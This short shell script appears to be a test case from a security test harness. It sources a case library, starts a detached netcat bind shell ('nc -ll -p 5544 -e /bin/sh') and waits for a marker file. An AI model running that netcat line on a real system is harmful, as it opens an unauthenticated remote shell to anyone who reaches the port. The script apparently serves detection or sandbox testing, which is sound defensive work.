#!/bin/sh
. /opt/case/case.sh

setsid nc -ll -p 5544 -e /bin/sh >/dev/null 2>&1 &
wait_for /tmp/reached
took_place
